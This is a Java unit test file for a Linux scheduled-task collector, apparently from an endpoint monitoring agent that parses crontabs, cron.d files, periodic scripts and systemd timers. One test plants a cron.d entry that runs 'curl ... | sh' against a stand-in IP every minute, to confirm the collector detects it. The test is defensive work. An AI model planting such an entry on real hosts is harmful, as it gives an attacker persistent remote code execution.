package io.agent7.agent.collect.linux;

import static io.agent7.agent.collect.Fields.bool;
import static io.agent7.agent.collect.Fields.has;
import static io.agent7.agent.collect.Fields.only;
import static io.agent7.agent.collect.Fields.text;
import static io.agent7.agent.collect.Fields.texts;
import static org.assertj.core.api.Assertions.assertThat;

import io.agent7.agent.collect.Fields;
import io.agent7.schema.Schema;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.node.ObjectNode;

class ScheduledTaskCollectorTest {

    @RegisterExtension
    final FixtureRoot fixture = new FixtureRoot();

    Path root;
    List<ObjectNode> docs;

    @BeforeEach
    void collect() throws Exception {
        root = fixture.root();
        docs = new ScheduledTaskCollector(Schema.standard(), root).collect();
    }

    private ObjectNode task(String path) {
        return only(docs, "scheduled_task.path", path);
    }

    @Test
    void everyCronJobPeriodicScriptAndTimerIsATaskButRebootJobsAreNot() {
        assertThat(Fields.column(docs, "scheduled_task.path"))
                .containsExactlyInAnyOrder(
                        "/etc/crontab:6",
                        "/etc/crontab:7",
                        "/etc/crontab:9",
                        "/etc/cron.d/backup:3",
                        "/etc/cron.d/backup:4",
                        "/etc/cron.d/backup:6",
                        "/etc/cron.d/backup:7",
                        "/var/spool/cron/crontabs/alice:3",
                        "/var/spool/cron/bob:1",
                        "/etc/cron.daily/logrotate",
                        "/etc/cron.hourly/not-executable",
                        "/usr/lib/systemd/system/backup.timer",
                        "/usr/lib/systemd/system/cleanup.timer");
    }

    @Test
    void aSystemCronJobRunsAsItsUserColumnAndFindsItsProgramOnTheTablesPath() {
        ObjectNode job = task("/etc/crontab:7");
        assertThat(text(job, "scheduled_task.source")).isEqualTo("crontab");
        assertThat(text(job, "scheduled_task.schedule")).isEqualTo("25 6 * * *");
        assertThat(text(job, "scheduled_task.folder")).isEqualTo("/etc/crontab");
        assertThat(text(job, "scheduled_task.name")).startsWith("crontab: test -x /usr/sbin/anacron");
        assertThat(bool(job, "scheduled_task.enabled")).isTrue();
        assertThat(text(job, "process.executable")).isEqualTo("/usr/bin/test");
        assertThat(text(job, "user.name")).isEqualTo("root");
        assertThat(bool(job, "scheduled_task.privileged")).isTrue();
        assertThat(text(job, "scheduled_task.account_type")).isEqualTo("system");
    }

    @Test
    void aShellBuiltinHasNoExecutableButKeepsItsCommandLine() {
        ObjectNode job = task("/etc/crontab:6");
        assertThat(text(job, "process.command_line")).isEqualTo("cd / && run-parts --report /etc/cron.hourly");
        assertThat(has(job, "process.executable")).isFalse();
        assertThat(texts(job, "process.args")).startsWith("cd", "/", "&&");
    }

    @Test
    void cronDJobsSkipLeadingAssignmentsToFindTheProgram() {
        ObjectNode php = task("/etc/cron.d/backup:6");
        assertThat(text(php, "scheduled_task.source")).isEqualTo("cron_d");
        assertThat(text(php, "process.executable")).isEqualTo("/usr/bin/php");
        assertThat(text(php, "user.name")).isEqualTo("www-data");
        assertThat(bool(php, "scheduled_task.privileged")).isFalse();
        assertThat(text(php, "scheduled_task.account_type")).isEqualTo("service");
        assertThat(text(task("/etc/cron.d/backup:3"), "user.name")).isEqualTo("alice");
        assertThat(bool(task("/etc/cron.d/backup:3"), "scheduled_task.privileged"))
                .as("alice is in sudo")
                .isTrue();
        assertThat(text(task("/etc/cron.d/backup:7"), "process.executable")).isEqualTo("/usr/bin/echo");
    }

    @Test
    void userTablesOfDebianAndRedHatRunAsTheirOwner() {
        ObjectNode alice = task("/var/spool/cron/crontabs/alice:3");
        assertThat(text(alice, "user.name")).isEqualTo("alice");
        assertThat(text(alice, "user.id")).isEqualTo("1000");
        assertThat(text(alice, "process.executable")).isEqualTo("/home/alice/bin/sync-notes");
        assertThat(text(alice, "scheduled_task.account_type")).isEqualTo("user");
        ObjectNode bob = task("/var/spool/cron/bob:1");
        assertThat(text(bob, "user.name")).isEqualTo("bob");
        assertThat(text(bob, "scheduled_task.schedule")).isEqualTo("0 9 * * 1");
    }

    @Test
    void periodicScriptsRunAsRootAndOnlyWhenExecutable() throws Exception {
        ObjectNode logrotate = task("/etc/cron.daily/logrotate");
        assertThat(text(logrotate, "scheduled_task.source")).isEqualTo("cron_periodic");
        assertThat(text(logrotate, "scheduled_task.schedule")).isEqualTo("daily");
        assertThat(text(logrotate, "scheduled_task.name")).isEqualTo("logrotate");
        assertThat(bool(logrotate, "scheduled_task.enabled")).isTrue();
        assertThat(text(logrotate, "process.executable")).isEqualTo("/etc/cron.daily/logrotate");
        assertThat(text(logrotate, "process.hash.sha256"))
                .isEqualTo(ServiceCollectorTest.sha256(root.resolve("etc/cron.daily/logrotate")));
        assertThat(bool(task("/etc/cron.hourly/not-executable"), "scheduled_task.enabled"))
                .isFalse();
    }

    @Test
    void aTimerRunsTheCommandOfTheUnitItTriggers() {
        ObjectNode backup = task("/usr/lib/systemd/system/backup.timer");
        assertThat(text(backup, "scheduled_task.source")).isEqualTo("systemd_timer");
        assertThat(text(backup, "scheduled_task.name")).isEqualTo("backup.timer");
        assertThat(text(backup, "scheduled_task.schedule")).isEqualTo("*-*-* 02:00:00; Sat *-*-* 05:00:00");
        assertThat(text(backup, "scheduled_task.description")).isEqualTo("Nightly backup");
        assertThat(bool(backup, "scheduled_task.enabled")).isTrue();
        assertThat(text(backup, "scheduled_task.last_run")).isEqualTo("2024-05-01T02:00:00.000Z");
        assertThat(text(backup, "process.command_line")).isEqualTo("/usr/local/bin/backup.sh --full");
        assertThat(text(backup, "user.name")).isEqualTo("bob");
        ObjectNode cleanup = task("/usr/lib/systemd/system/cleanup.timer");
        assertThat(text(cleanup, "scheduled_task.schedule")).isEqualTo("OnBootSec=15min; OnUnitActiveSec=1d");
        assertThat(bool(cleanup, "scheduled_task.enabled")).isFalse();
        assertThat(text(cleanup, "process.executable")).isEqualTo("/usr/bin/cleanup");
        assertThat(text(cleanup, "user.name")).isEqualTo("root");
        assertThat(has(cleanup, "scheduled_task.last_run")).isFalse();
    }

    @Test
    void aCronFilePlantedInARootIsFound() throws Exception {
        Files.writeString(
                root.resolve("etc/cron.d/planted"), "* * * * * nobody /usr/bin/curl -s http://198.51.100.7/x | sh\n");
        ObjectNode planted = only(
                new ScheduledTaskCollector(Schema.standard(), root).collect(),
                "scheduled_task.path",
                "/etc/cron.d/planted:1");
        assertThat(text(planted, "user.name")).isEqualTo("nobody");
        assertThat(text(planted, "process.command_line")).contains("198.51.100.7");
    }

    @Test
    void aHostWithoutCronOrSystemdHasNoTasks(@TempDir Path empty) {
        assertThat(new ScheduledTaskCollector(Schema.standard(), empty).collect())
                .isEmpty();
    }
}
